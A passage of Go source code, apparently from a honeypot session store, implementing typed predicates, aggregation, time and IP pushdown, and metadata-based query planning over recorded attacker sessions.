	FieldURI:          {"uri", ValString, true, session.FDownloads},
	FieldHash:         {"hash", ValString, true, session.FHashes},
	FieldStateChanged: {"state_changed", ValBool, false, 0},
	FieldTimedOut:     {"timeout", ValBool, false, 0},
}

// Name returns the field's DSL name.
func (f Field) Name() string {
	if fi, ok := fieldInfos[f]; ok {
		return fi.name
	}
	return fmt.Sprintf("field(%d)", int(f))
}

// Type returns the value kind the field yields.
func (f Field) Type() ValueKind { return fieldInfos[f].kind }

// Multi reports whether the field yields multiple values per record.
func (f Field) Multi() bool { return fieldInfos[f].multi }

// Mask returns the decoder field-mask bits the field needs.
func (f Field) Mask() session.FieldMask { return fieldInfos[f].mask }

// ValueOf extracts the field's value from a record (the first element
// for multi-valued fields, a null Value when absent).
func (f Field) ValueOf(r *session.Record) Value { return fieldValue(f, r) }

// ValueKind tags a Value.
type ValueKind int

const (
	ValNull ValueKind = iota
	ValString
	ValInt
	ValFloat
	ValBool
	ValTime
	ValMonth
	ValDay
	ValSessionKind
)

// Value is the typed scalar queries compare, group by, and return.
type Value struct {
	Kind  ValueKind
	Str   string
	Int   int64
	Float float64
	Bool  bool
	Time  time.Time
}

// Convenience constructors.
func StringValue(s string) Value     { return Value{Kind: ValString, Str: s} }
func IntValue(n int64) Value         { return Value{Kind: ValInt, Int: n} }
func FloatValue(f float64) Value     { return Value{Kind: ValFloat, Float: f} }
func BoolValue(b bool) Value         { return Value{Kind: ValBool, Bool: b} }
func TimeValue(t time.Time) Value    { return Value{Kind: ValTime, Time: t} }
func MonthValue(t time.Time) Value   { return Value{Kind: ValMonth, Time: t} }
func DayValue(t time.Time) Value     { return Value{Kind: ValDay, Time: t} }
func KindValue(k session.Kind) Value { return Value{Kind: ValSessionKind, Int: int64(k)} }

// String formats the value the way reports print it.
func (v Value) String() string {
	switch v.Kind {
	case ValNull:
		return ""
	case ValString:
		return v.Str
	case ValInt:
		return strconv.FormatInt(v.Int, 10)
	case ValFloat:
		return strconv.FormatFloat(v.Float, 'g', -1, 64)
	case ValBool:
		return strconv.FormatBool(v.Bool)
	case ValTime:
		return v.Time.UTC().Format(time.RFC3339)
	case ValMonth:
		return v.Time.UTC().Format(monthLayout)
	case ValDay:
		return v.Time.UTC().Format("2006-01-02")
	case ValSessionKind:
		return session.Kind(v.Int).String()
	}
	return ""
}

// less orders values of the same kind; it is the deterministic group
// sort behind every aggregated result.
func (v Value) less(o Value) bool {
	if v.Kind != o.Kind {
		return v.Kind < o.Kind
	}
	switch v.Kind {
	case ValString:
		return v.Str < o.Str
	case ValInt, ValSessionKind:
		return v.Int < o.Int
	case ValFloat:
		return v.Float < o.Float
	case ValBool:
		return !v.Bool && o.Bool
	case ValTime, ValMonth, ValDay:
		return v.Time.Before(o.Time)
	}
	return false
}

func (v Value) equal(o Value) bool { return !v.less(o) && !o.less(v) }

// Less is the exported ordering (ORDER BY uses it).
func (v Value) Less(o Value) bool { return v.less(o) }

// PredOp tags a predicate tree node.
type PredOp int

const (
	PredCmp PredOp = iota
	PredAnd
	PredOr
	PredNot
)

// CmpOp is a comparison operator at a predicate leaf.
type CmpOp int

const (
	CmpEq CmpOp = iota
	CmpNe
	CmpLt
	CmpLe
	CmpGt
	CmpGe
	CmpMatch
	CmpNotMatch
)

func (op CmpOp) String() string {
	return [...]string{"=", "!=", "<", "<=", ">", ">=", "~", "!~"}[op]
}

// Pred is a typed predicate tree. Leaves (PredCmp) compare one field
// against a literal; inner nodes combine children. Multi-valued fields
// use any-element semantics for Eq/Match and no-element for
// Ne/NotMatch.
type Pred struct {
	Op    PredOp
	Kids  []*Pred
	Field Field
	Cmp   CmpOp
	Val   Value
	Re    *regexp.Regexp
}

// And, Or, Not, Cmp, and Match build predicate trees.
func And(kids ...*Pred) *Pred { return &Pred{Op: PredAnd, Kids: kids} }
func Or(kids ...*Pred) *Pred  { return &Pred{Op: PredOr, Kids: kids} }
func Not(kid *Pred) *Pred     { return &Pred{Op: PredNot, Kids: []*Pred{kid}} }

func Cmp(f Field, op CmpOp, v Value) *Pred {
	return &Pred{Op: PredCmp, Field: f, Cmp: op, Val: v}
}

func Match(f Field, re *regexp.Regexp, negate bool) *Pred {
	op := CmpMatch
	if negate {
		op = CmpNotMatch
	}
	return &Pred{Op: PredCmp, Field: f, Cmp: op, Re: re}
}

// CompilePred validates a predicate tree and compiles it to a Filter.
// A nil tree compiles to a nil Filter (select all).
func CompilePred(p *Pred) (Filter, error) {
	if p == nil {
		return nil, nil
	}
	if err := checkPred(p); err != nil {
		return nil, err
	}
	return evalFunc(p), nil
}

// checkPred type-checks one predicate tree.
func checkPred(p *Pred) error {
	switch p.Op {
	case PredAnd, PredOr:
		if len(p.Kids) == 0 {
			return fmt.Errorf("query: empty %s", map[PredOp]string{PredAnd: "AND", PredOr: "OR"}[p.Op])
		}
		for _, k := range p.Kids {
			if err := checkPred(k); err != nil {
				return err
			}
		}
		return nil
	case PredNot:
		if len(p.Kids) != 1 {
			return fmt.Errorf("query: NOT takes one operand")
		}
		return checkPred(p.Kids[0])
	}
	fi, ok := fieldInfos[p.Field]
	if !ok {
		return fmt.Errorf("query: unknown field in predicate")
	}
	switch p.Cmp {
	case CmpMatch, CmpNotMatch:
		if fi.kind != ValString {
			return fmt.Errorf("query: %s: ~ requires a string field", fi.name)
		}
		if p.Re == nil {
			return fmt.Errorf("query: %s: missing pattern", fi.name)
		}
		return nil
	case CmpLt, CmpLe, CmpGt, CmpGe:
		if fi.multi {
			return fmt.Errorf("query: %s: ordering comparison on multi-valued field", fi.name)
		}
		if fi.kind == ValBool {
			return fmt.Errorf("query: %s: ordering comparison on boolean field", fi.name)
		}
	}
	if !valueCompatible(fi.kind, p.Val.Kind) {
		return fmt.Errorf("query: %s: cannot compare %s field with %s literal",
			fi.name, kindName(fi.kind), kindName(p.Val.Kind))
	}
	return nil
}

func kindName(k ValueKind) string {
	return [...]string{"null", "string", "int", "float", "bool", "time", "month", "day", "kind"}[k]
}

// valueCompatible reports whether a literal of kind lv can compare with
// a field of kind fv.
func valueCompatible(fv, lv ValueKind) bool {
	if fv == lv {
		return true
	}
	switch fv {
	case ValInt, ValFloat:
		return lv == ValInt || lv == ValFloat
	case ValTime, ValMonth, ValDay:
		return lv == ValTime || lv == ValMonth || lv == ValDay
	case ValSessionKind:
		return lv == ValSessionKind || lv == ValInt
	}
	return false
}

// evalFunc compiles a checked tree to a closure.
func evalFunc(p *Pred) Filter {
	switch p.Op {
	case PredAnd:
		kids := make([]Filter, len(p.Kids))
		for i, k := range p.Kids {
			kids[i] = evalFunc(k)
		}
		return func(r *session.Record) bool {
			for _, k := range kids {
				if !k(r) {
					return false
				}
			}
			return true
		}
	case PredOr:
		kids := make([]Filter, len(p.Kids))
		for i, k := range p.Kids {
			kids[i] = evalFunc(k)
		}
		return func(r *session.Record) bool {
			for _, k := range kids {
				if k(r) {
					return true
				}
			}
			return false
		}
	case PredNot:
		kid := evalFunc(p.Kids[0])
		return func(r *session.Record) bool { return !kid(r) }
	}
	f, cmp, val, re := p.Field, p.Cmp, p.Val, p.Re
	if fieldInfos[f].multi {
		return func(r *session.Record) bool { return evalMulti(f, cmp, val, re, r) }
	}
	return func(r *session.Record) bool { return evalCmp(fieldValue(f, r), cmp, val, re) }
}

// evalMulti applies any-element semantics for Eq/Match and no-element
// semantics for Ne/NotMatch over a multi-valued string field.
func evalMulti(f Field, cmp CmpOp, val Value, re *regexp.Regexp, r *session.Record) bool {
	any := func(pred func(string) bool) bool {
		switch f {
		case FieldUser:
			for i := range r.Logins {
				if pred(r.Logins[i].Username) {
					return true
				}
			}
		case FieldPassword:
			for i := range r.Logins {
				if pred(r.Logins[i].Password) {
					return true
				}
			}
		case FieldURI:
			for i := range r.Downloads {
				if pred(r.Downloads[i].URI) {
					return true
				}
			}
		case FieldHash:
			for _, h := range r.DroppedHashes {
				if pred(h) {
					return true
				}
			}
		}
		return false
	}
	switch cmp {
	case CmpEq:
		return any(func(s string) bool { return s == val.Str })
	case CmpNe:
		return !any(func(s string) bool { return s == val.Str })
	case CmpMatch:
		return any(re.MatchString)
	case CmpNotMatch:
		return !any(re.MatchString)
	}
	return false
}

// fieldValue extracts a single-valued field (or the first element of a
// multi-valued one) from a record.
func fieldValue(f Field, r *session.Record) Value {
	switch f {
	case FieldStart:
		return TimeValue(r.Start)
	case FieldEnd:
		return TimeValue(r.End)
	case FieldDuration:
		return FloatValue(r.End.Sub(r.Start).Seconds())
	case FieldMonth:
		return MonthValue(r.Month())
	case FieldDay:
		return DayValue(r.Day())
	case FieldID:
		return IntValue(int64(r.ID))
	case FieldHoneypot:
		return StringValue(r.HoneypotID)
	case FieldHoneypotIP:
		return StringValue(r.HoneypotIP)
	case FieldIP:
		return StringValue(r.ClientIP)
	case FieldPort:
		return IntValue(int64(r.ClientPort))
	case FieldProto:
		return StringValue(r.Protocol)
	case FieldClientVer:
		return StringValue(r.ClientVersion)
	case FieldKind:
		return KindValue(r.Kind())
	case FieldUser:
		if len(r.Logins) > 0 {
			return StringValue(r.Logins[0].Username)
		}
		return Value{}
	case FieldPassword:
		if len(r.Logins) > 0 {
			return StringValue(r.Logins[0].Password)
		}
		return Value{}
	case FieldLoginOK:
		return BoolValue(r.LoggedIn())
	case FieldLogins:
		return IntValue(int64(len(r.Logins)))
	case FieldCmd:
		return StringValue(r.CommandText())
	case FieldCommands:
		return IntValue(int64(len(r.Commands)))
	case FieldDownloads:
		return IntValue(int64(len(r.Downloads)))
	case FieldURI:
		if len(r.Downloads) > 0 {
			return StringValue(r.Downloads[0].URI)
		}
		return Value{}
	case FieldHash:
		if len(r.DroppedHashes) > 0 {
			return StringValue(r.DroppedHashes[0])
		}
		return Value{}
	case FieldStateChanged:
		return BoolValue(r.StateChanged)
	case FieldTimedOut:
		return BoolValue(r.TimedOut)
	}
	return Value{}
}

// evalCmp compares one extracted value against a literal.
func evalCmp(v Value, cmp CmpOp, val Value, re *regexp.Regexp) bool {
	switch cmp {
	case CmpMatch:
		return re.MatchString(v.Str)
	case CmpNotMatch:
		return !re.MatchString(v.Str)
	}
	c := compareValues(v, val)
	switch cmp {
	case CmpEq:
		return c == 0
	case CmpNe:
		return c != 0
	case CmpLt:
		return c < 0
	case CmpLe:
		return c <= 0
	case CmpGt:
		return c > 0
	case CmpGe:
		return c >= 0
	}
	return false
}

// compareValues compares across the compatible-kind pairs
// valueCompatible admits (ints vs floats, times vs months vs days).
func compareValues(a, b Value) int {
	switch a.Kind {
	case ValString:
		return strings.Compare(a.Str, b.Str)
	case ValBool:
		switch {
		case a.Bool == b.Bool:
			return 0
		case !a.Bool:
			return -1
		}
		return 1
	case ValInt, ValSessionKind:
		if b.Kind == ValFloat {
			return cmpFloat(float64(a.Int), b.Float)
		}
		switch {
		case a.Int < b.Int:
			return -1
		case a.Int > b.Int:
			return 1
		}
		return 0
	case ValFloat:
		bf := b.Float
		if b.Kind == ValInt {
			bf = float64(b.Int)
		}
		return cmpFloat(a.Float, bf)
	case ValTime, ValMonth, ValDay:
		switch {
		case a.Time.Before(b.Time):
			return -1
		case a.Time.After(b.Time):
			return 1
		}
		return 0
	}
	return 0
}

func cmpFloat(a, b float64) int {
	switch {
	case a < b:
		return -1
	case a > b:
		return 1
	}
	return 0
}

// AggOp is an aggregation function.
type AggOp int

const (
	AggCount AggOp = iota
	AggCountDistinct
	AggSum
	AggAvg
	AggMin
	AggMax
)

func (op AggOp) String() string {
	return [...]string{"count", "count_distinct", "sum", "avg", "min", "max"}[op]
}

// AggSpec is one aggregate output column. Field is FieldNone for
// count(*).
type AggSpec struct {
	Op    AggOp
	Field Field
}

// Query is the structured query every execution path shares: an
// optional time range and exact-IP route, an optional typed predicate
// tree (or an opaque legacy Filter, which disables pushdown), a
// projection, and an optional aggregation.
type Query struct {
	Time   TimeRange
	IP     string
	Filter Filter // opaque legacy filter; defeats pushdown and projection
	Where  *Pred

	// Select lists the fields a row-mode caller will read; the decoder
	// skips the rest. Empty means all fields (full records).
	Select []Field

	// GroupBy + Aggs switch the query to aggregation mode: one output
	// row per distinct GroupBy key, columns Aggs. GroupBy without Aggs
	// is invalid; Aggs without GroupBy is a single global row.
	GroupBy []Field
	Aggs    []AggSpec

	// Limit bounds row-mode results (0 = unlimited).
	Limit int

	// OrderBy sorts row-mode results by one field (FieldNone = store
	// order). With a Limit the sort runs as a bounded top-k heap below
	// the scan — memory O(limit), not O(result) — keyed on the sort
	// column alone. Incompatible with Aggs.
	OrderBy Field
	// Desc reverses the OrderBy direction.
	Desc bool
}

// PlanStats describes what the planner chose and what pruning achieved,
// so pushdown is observable rather than assumed.
type PlanStats struct {
	Mode string // "metadata", "hybrid", "scan", "ip-scan", "empty"

	Segments        int // sealed segments in the snapshot
	TimePruned      int // segments skipped via time bounds
	BloomChecked    int // segments probed by the Bloom route
	BloomPruned     int // segments the Bloom filter excluded
	MetaSegments    int // segments answered from sealed metadata
	ScannedSegments int // segments whose blocks were opened
	TailRecords     int // unsealed records considered

	BlocksRead    int64 // compressed blocks read and decoded
	BlocksSkipped int64 // blocks in segments answered without reading

	// Columnar (v3) pushdown: blocks pruned by per-block zone maps
	// before any stripe decompressed, and the stripes actually touched.
	BlocksZonePruned int64
	StripesRead      int64
	StripeBytes      int64 // compressed bytes of stripes read

	ScannedRecords int64 // records decoded by the scan
	MatchedRecords int64 // records that passed every predicate

	// TopK is the bounded ORDER BY/LIMIT heap size when the sort was
	// pushed below the aggregator (0 = no pushdown).
	TopK int

	From, To time.Time // effective pushed-down time range
	IP       string    // effective pushed-down exact-IP route
}

// add accumulates shard stats into fleet-wide stats.
func (ps *PlanStats) add(o *PlanStats) {
	ps.Segments += o.Segments
	ps.TimePruned += o.TimePruned
	ps.BloomChecked += o.BloomChecked
	ps.BloomPruned += o.BloomPruned
	ps.MetaSegments += o.MetaSegments
	ps.ScannedSegments += o.ScannedSegments
	ps.TailRecords += o.TailRecords
	ps.BlocksRead += o.BlocksRead
	ps.BlocksSkipped += o.BlocksSkipped
	ps.BlocksZonePruned += o.BlocksZonePruned
	ps.StripesRead += o.StripesRead
	ps.StripeBytes += o.StripeBytes
	ps.ScannedRecords += o.ScannedRecords
	ps.MatchedRecords += o.MatchedRecords
	if o.TopK > ps.TopK {
		ps.TopK = o.TopK
	}
}

// Lines renders the stats as EXPLAIN output.
func (ps *PlanStats) Lines() []string {
	rng := "all time"
	if !ps.From.IsZero() || !ps.To.IsZero() {
		f, t := "-inf", "+inf"
		if !ps.From.IsZero() {
			f = ps.From.UTC().Format(time.RFC3339)
		}
		if !ps.To.IsZero() {
			t = ps.To.UTC().Format(time.RFC3339)
		}
		rng = fmt.Sprintf("[%s, %s)", f, t)
	}
	out := []string{
		fmt.Sprintf("plan: %s", ps.Mode),
		fmt.Sprintf("time range: %s", rng),
	}
	if ps.IP != "" {
		out = append(out, fmt.Sprintf("ip route: %s (Bloom-probed)", ps.IP))
	}
	out = append(out,
		fmt.Sprintf("segments: %d total, %d time-pruned, %d Bloom-checked, %d Bloom-pruned",
			ps.Segments, ps.TimePruned, ps.BloomChecked, ps.BloomPruned),
		fmt.Sprintf("answered from metadata: %d segments (%d blocks skipped)",
			ps.MetaSegments, ps.BlocksSkipped),
		fmt.Sprintf("scanned: %d segments, %d blocks read, %d tail records",
			ps.ScannedSegments, ps.BlocksRead, ps.TailRecords),
		fmt.Sprintf("records: %d decoded, %d matched", ps.ScannedRecords, ps.MatchedRecords),
	)
	if ps.BlocksZonePruned > 0 || ps.StripesRead > 0 {
		out = append(out, fmt.Sprintf("columnar: %d blocks zone-pruned, %d stripes read (%d compressed bytes)",
			ps.BlocksZonePruned, ps.StripesRead, ps.StripeBytes))
	}
	if ps.TopK > 0 {
		out = append(out, fmt.Sprintf("order by: top-%d heap pushed below the scan", ps.TopK))
	}
	return out
}

// GroupRow is one aggregated output row.
type GroupRow struct {
	Keys []Value // one per Query.GroupBy field
	Aggs []Value // one per Query.Aggs spec
}

// recordCursor is the streaming-record interface both Cursor and
// FleetCursor satisfy.
type recordCursor interface {
	Next() bool
	Record() *session.Record
	Err() error
	Close() error
}

// Result is a query's output: either finalized group rows (aggregation
// mode) or a streaming record cursor (row mode), plus plan statistics.
type Result struct {
	agg   bool
	rows  []GroupRow
	cur   recordCursor
	n     int
	limit int
	stats *PlanStats
}

// Aggregated reports whether the result holds group rows rather than a
// record stream.
func (r *Result) Aggregated() bool { return r.agg }

// Groups returns the aggregated rows, sorted by group key.
func (r *Result) Groups() []GroupRow { return r.rows }

// Next advances a row-mode result to the next record. Hitting the
// LIMIT closes the underlying cursor immediately, so pooled block
// scratch goes back even when the caller never calls Close.
func (r *Result) Next() bool {
	if r.agg || r.cur == nil {
		return false
	}
	if r.limit > 0 && r.n >= r.limit {
		r.cur.Close()
		return false
	}
	if !r.cur.Next() {
		return false
	}
	r.n++
	return true
}

// Record returns the record Next advanced to.
func (r *Result) Record() *session.Record {
	if r.cur == nil {
		return nil
	}
	return r.cur.Record()
}

// Err returns the first error the query hit, if any.
func (r *Result) Err() error {
	if r.cur == nil {
		return nil
	}
	return r.cur.Err()
}

// Close releases any open cursor. Safe on aggregated results.
func (r *Result) Close() error {
	if r.cur == nil {
		return nil
	}
	return r.cur.Close()
}

// Stats returns the plan statistics.
func (r *Result) Stats() PlanStats { return *r.stats }

// validate checks the query's shape and compiles its predicate.
func (q *Query) validate() (Filter, error) {
	if len(q.GroupBy) > 0 && len(q.Aggs) == 0 {
		return nil, fmt.Errorf("query: GROUP BY without aggregates")
	}
	if len(q.Aggs) > 0 && len(q.Select) > 0 {
		return nil, fmt.Errorf("query: Select and Aggs are mutually exclusive")
	}
	for _, f := range q.Select {
		if _, ok := fieldInfos[f]; !ok {
			return nil, fmt.Errorf("query: unknown select field")
		}
	}
	for _, f := range q.GroupBy {
		if fi, ok := fieldInfos[f]; !ok {
			return nil, fmt.Errorf("query: unknown group-by field")
		} else if fi.multi {
			return nil, fmt.Errorf("query: %s: cannot group by multi-valued field", fi.name)
		}
	}
	if q.OrderBy != FieldNone {
		if len(q.Aggs) > 0 {
			return nil, fmt.Errorf("query: OrderBy applies to row mode, not aggregates")
		}
		if fi, ok := fieldInfos[q.OrderBy]; !ok {
			return nil, fmt.Errorf("query: unknown order-by field")
		} else if fi.multi {
			return nil, fmt.Errorf("query: %s: cannot order by multi-valued field", fi.name)
		}
	}
	for _, a := range q.Aggs {
		switch a.Op {
		case AggCount:
			// count(*) or count(field) both fine.
			if a.Field != FieldNone {
				if _, ok := fieldInfos[a.Field]; !ok {
					return nil, fmt.Errorf("query: unknown count field")
				}
			}
		case AggCountDistinct:
			if _, ok := fieldInfos[a.Field]; !ok {
				return nil, fmt.Errorf("query: count(distinct) needs a field")
			}
		case AggSum, AggAvg, AggMin, AggMax:
			fi, ok := fieldInfos[a.Field]
			if !ok {
				return nil, fmt.Errorf("query: %s needs a field", a.Op)
			}
			if fi.multi {
				return nil, fmt.Errorf("query: %s(%s): aggregate over multi-valued field", a.Op, fi.name)
			}
			if a.Op == AggSum || a.Op == AggAvg {
				if fi.kind != ValInt && fi.kind != ValFloat {
					return nil, fmt.Errorf("query: %s(%s): field is not numeric", a.Op, fi.name)
				}
			} else if fi.kind == ValBool {
				return nil, fmt.Errorf("query: %s(%s): field is not orderable", a.Op, fi.name)
			}
		default:
			return nil, fmt.Errorf("query: unknown aggregate")
		}
	}
	return CompilePred(q.Where)
}

// mask computes the decoder field mask the query needs. An opaque
// Filter forces full decoding; otherwise only the fields the predicate,
// projection, and aggregates read are decoded.
func (q *Query) mask(ip string) session.FieldMask {
	if q.Filter != nil {
		return session.FAllFields
	}
	if len(q.Aggs) == 0 && len(q.Select) == 0 {
		return session.FAllFields // full records requested
	}
	var m session.FieldMask
	for _, f := range q.Select {
		m |= f.Mask()
	}
	for _, f := range q.GroupBy {
		m |= f.Mask()
	}
	for _, a := range q.Aggs {
		if a.Field != FieldNone {
			m |= a.Field.Mask()
		}
	}
	m |= predMask(q.Where)
	if q.OrderBy != FieldNone {
		m |= q.OrderBy.Mask()
	}
	if ip != "" {
		m |= session.FClientIP
	}
	return m
}

func predMask(p *Pred) session.FieldMask {
	if p == nil {
		return 0
	}
	if p.Op == PredCmp {
		return p.Field.Mask()
	}
	var m session.FieldMask
	for _, k := range p.Kids {
		m |= predMask(k)
	}
	return m
}

// predTimeRange extracts a conservative time range implied by the
// predicate: every matching record's Start falls inside it. AND
// intersects, OR takes the hull, NOT is open.
func predTimeRange(p *Pred) TimeRange {
	if p == nil {
		return TimeRange{}
	}
	switch p.Op {
	case PredAnd:
		var tr TimeRange
		for _, k := range p.Kids {
			tr = intersectRange(tr, predTimeRange(k))
		}
		return tr
	case PredOr:
		tr := predTimeRange(p.Kids[0])
		for _, k := range p.Kids[1:] {
			tr = hullRange(tr, predTimeRange(k))
		}
		return tr
	case PredNot:
		return TimeRange{}
	}
	switch p.Field {
	case FieldStart:
		if p.Val.Kind != ValTime {
			return TimeRange{}
		}
		return boundRange(p.Cmp, p.Val.Time, p.Val.Time.Add(time.Nanosecond))
	case FieldMonth:
		if p.Val.Kind != ValMonth && p.Val.Kind != ValTime {
			return TimeRange{}
		}
		m := time.Date(p.Val.Time.Year(), p.Val.Time.Month(), 1, 0, 0, 0, 0, time.UTC)
		return boundRange(p.Cmp, m, m.AddDate(0, 1, 0))
	case FieldDay:
		if p.Val.Kind != ValDay && p.Val.Kind != ValTime {
			return TimeRange{}
		}
		d := p.Val.Time.UTC().Truncate(24 * time.Hour)
		return boundRange(p.Cmp, d, d.Add(24*time.Hour))
	}
	return TimeRange{}
}

// boundRange maps a comparison against a bucket [lo, hi) — a point in
// time is the degenerate bucket [t, t+1ns) — to a Start range.
func boundRange(cmp CmpOp, lo, hi time.Time) TimeRange {
	switch cmp {
	case CmpEq:
		return TimeRange{From: lo, To: hi}
	case CmpLt:
		return TimeRange{To: lo}
	case CmpLe:
		return TimeRange{To: hi}
	case CmpGt:
		return TimeRange{From: hi}
	case CmpGe:
		return TimeRange{From: lo}
	}
	return TimeRange{}
}

// intersectRange narrows to the overlap of two ranges (zero = open).
func intersectRange(a, b TimeRange) TimeRange {
	out := a
	if out.From.IsZero() || (!b.From.IsZero() && b.From.After(out.From)) {
		out.From = b.From
	}
	if out.To.IsZero() || (!b.To.IsZero() && b.To.Before(out.To)) {
		out.To = b.To
	}
	return out
}

// hullRange widens to cover both ranges; an open side stays open.
func hullRange(a, b TimeRange) TimeRange {
	var out TimeRange
	if !a.From.IsZero() && !b.From.IsZero() {
		out.From = a.From
		if b.From.Before(out.From) {
			out.From = b.From
		}
	}
	if !a.To.IsZero() && !b.To.IsZero() {
		out.To = a.To
		if b.To.After(out.To) {
			out.To = b.To
		}
	}
	return out
}

// emptyRange reports a contradictory (always-false) range.
func emptyRange(tr TimeRange) bool {
	return !tr.From.IsZero() && !tr.To.IsZero() && !tr.From.Before(tr.To)
}

// predIP extracts an exact client-IP route from required top-level AND
// conjuncts. The second return is false on a contradiction (two
// different required IPs).
func predIP(p *Pred) (string, bool) {
	if p == nil {
		return "", true
	}
	switch p.Op {
	case PredCmp:
		if p.Field == FieldIP && p.Cmp == CmpEq && p.Val.Kind == ValString {
			return p.Val.Str, true
		}
		return "", true
	case PredAnd:
		ip := ""
		for _, k := range p.Kids {
			kip, ok := predIP(k)
			if !ok {
				return "", false
			}
			if kip == "" {
				continue
			}
			if ip != "" && ip != kip {
				return "", false
			}
			ip = kip
		}
		return ip, true
	}
	return "", true
}

// RunQuery executes a structured query against the store. Aggregation
// queries return finalized group rows; row queries return a streaming
// cursor. The caller must Close the result.
func (s *Store) RunQuery(q *Query) (*Result, error) {
	ev, err := q.validate()
	if err != nil {
		return nil, err
	}
	res, tab, err := s.runQuery(q, ev)
	if err != nil {
		return nil, err
	}
	if tab != nil {
		res.rows = tab.finalize()
	}
	s.noteQuery(res.stats)
	return res, nil
}

// noteQuery folds one query's plan stats into the store's counters.
func (s *Store) noteQuery(ps *PlanStats) {
	s.queriesTotal.Add(1)
	if ps.Mode == "metadata" || ps.Mode == "empty" {
		s.queryMetaOnly.Add(1)
	}
	s.querySegsPruned.Add(int64(ps.TimePruned + ps.BloomPruned))
	s.queryBlocksSkipped.Add(ps.BlocksSkipped)
}

// runQuery plans and executes; aggregation queries additionally return
// the un-finalized table so Fleet can merge across shards.
func (s *Store) runQuery(q *Query, ev Filter) (*Result, *aggTable, error) {
	stats := &PlanStats{}

	// Pushdown: narrow the time range by predicate-implied bounds and
	// route required `ip =` conjuncts through the Bloom filters.
	tr := intersectRange(q.Time, predTimeRange(q.Where))
	pip, ok := predIP(q.Where)
	ip := q.IP
	if ok && ip == "" {
		ip = pip
	}
	contradiction := !ok || (q.IP != "" && pip != "" && q.IP != pip) || emptyRange(tr)
	stats.From, stats.To, stats.IP = tr.From, tr.To, ip

	filter := combineFilters(ev, q.Filter)

	if contradiction {
		stats.Mode = "empty"
		if len(q.Aggs) > 0 {
			return &Result{agg: true, stats: stats}, newAggTable(q.GroupBy, q.Aggs), nil
		}
		return &Result{cur: &Cursor{}, limit: q.Limit, stats: stats}, nil, nil
	}

	if len(q.Aggs) > 0 {
		tab, err := s.runAgg(q, filter, tr, ip, stats)
		if err != nil {
			return nil, nil, err
		}
		return &Result{agg: true, stats: stats}, tab, nil
	}

	stats.Mode = "scan"
	if ip != "" {
		stats.Mode = "ip-scan"
	}
	cur := s.scanQ(tr, filter, ip, q.mask(ip), q.Where, stats)
	if q.OrderBy != FieldNone {
		// ORDER BY pushdown: stream the scan through a bounded top-k
		// heap instead of materializing and sorting the result.
		rows, err := collectTopK(cur, q.OrderBy, q.Desc, q.Limit)
		if err != nil {
			return nil, nil, err
		}
		if q.Limit > 0 {
			stats.TopK = q.Limit
		}
		return &Result{cur: &sliceCursor{rows: rows}, limit: q.Limit, stats: stats}, nil, nil
	}
	return &Result{cur: cur, limit: q.Limit, stats: stats}, nil, nil
}

func combineFilters(a, b Filter) Filter {
	switch {
	case a == nil:
		return b
	case b == nil:
		return a
	}
	return func(r *session.Record) bool { return a(r) && b(r) }
}

// metadataEligible reports whether an aggregation query can be answered
// from sealed segment metadata alone: all aggregates are counts over
// whole records, grouping and predicates touch only what segments
// record (month, time bounds, kind counts, protocol counts), and —
// since segments hold kind and protocol *marginals*, not their joint —
// at most one of kind/proto appears anywhere.
func metadataEligible(q *Query, ip string) bool {
	if q.Filter != nil || ip != "" {
		return false
	}
	for _, a := range q.Aggs {
		if a.Op != AggCount || a.Field != FieldNone {
			return false
		}
	}
	needKind, needProto := false, false
	for _, f := range q.GroupBy {
		switch f {
		case FieldMonth:
		case FieldKind:
			needKind = true
		case FieldProto:
			needProto = true
		default:
			return false
		}
	}
	okFields := predFieldsIn(q.Where, &needKind, &needProto)
	return okFields && !(needKind && needProto)
}

// predFieldsIn walks the tree checking every leaf field is
// metadata-decidable, flagging kind/proto use.
func predFieldsIn(p *Pred, needKind, needProto *bool) bool {
	if p == nil {
		return true
	}
	if p.Op != PredCmp {
		for _, k := range p.Kids {
			if !predFieldsIn(k, needKind, needProto) {
				return false
			}
		}
		return true
	}
	switch p.Field {
	case FieldStart, FieldMonth, FieldDay:
		return true
	case FieldKind:
		*needKind = true
		return true
	case FieldProto:
		*needProto = true
		return true
	}
	return false
}

// runAgg executes an aggregation query: the metadata path when
// eligible (zero block reads), falling back per segment — and for the
// unsealed tail — to a streaming scan through the same table.
func (s *Store) runAgg(q *Query, filter Filter, tr TimeRange, ip string, stats *PlanStats) (*aggTable, error) {
	tab := newAggTable(q.GroupBy, q.Aggs)

	if !metadataEligible(q, ip) {
		stats.Mode = "scan"
		if ip != "" {
			stats.Mode = "ip-scan"
		}
		cur := s.scanQ(tr, filter, ip, q.mask(ip), q.Where, stats)
		defer cur.Close()
		for cur.Next() {
			tab.addRecord(cur.Record())
		}
		return tab, cur.Err()
	}

	man, tail := s.snapshot()
	stats.Segments = len(man.Segments)
	var scanSegs []*segmentMeta
	for _, seg := range man.Segments {
		if !seg.overlaps(tr.From, tr.To) {
			stats.TimePruned++
			continue
		}
		if segFromMetadata(seg, q, tr, tab) {
			stats.MetaSegments++
			stats.BlocksSkipped += int64(len(seg.Blocks))
		} else {
			scanSegs = append(scanSegs, seg)
		}
	}

	stats.Mode = "metadata"
	if len(scanSegs) > 0 {
		stats.Mode = "hybrid"
		cur := &Cursor{s: s, tr: tr, filter: filter, mask: q.mask(ip), pred: q.Where, stats: stats}
		for _, seg := range scanSegs {
			cur.parts = append(cur.parts, part{seg: seg})
		}
		for cur.Next() {
			tab.addRecord(cur.Record())
		}
		if err := cur.Err(); err != nil {
			cur.Close()
			return nil, err
		}
		cur.Close()
		stats.ScannedSegments += len(scanSegs)
	}

	// The unsealed tail is already in memory: evaluate it record by
	// record, no decoding involved.
	for _, r := range tail {
		if !tr.contains(r.Start) {
			continue
		}
		if filter != nil && !filter(r) {
			continue
		}
		stats.TailRecords++
		stats.MatchedRecords++
		tab.addRecord(r)
	}
	return tab, nil
}

// tri is Kleene three-valued logic for evaluating predicates against
// segment metadata, where some facts (the exact start time, the
// protocol of a specific record) are only bounded, not known.
type tri int8

const (
	triFalse tri = iota
	triTrue
	triUnknown
)

func triNot(t tri) tri {
	switch t {
	case triTrue:
		return triFalse
	case triFalse:
		return triTrue
	}
	return triUnknown
}

// metaEnv is what sealed metadata knows about one bucket of a
// segment's records.
type metaEnv struct {
	month      time.Time // partition month (definite)
	minT, maxT time.Time // Start bounds (inclusive)
	kind       session.Kind
	hasKind    bool
	proto      string
	hasProto   bool
}

// triEval evaluates a predicate over a metadata bucket.
func triEval(p *Pred, env *metaEnv) tri {
	switch p.Op {
	case PredAnd:
		out := triTrue
		for _, k := range p.Kids {
			switch triEval(k, env) {
			case triFalse:
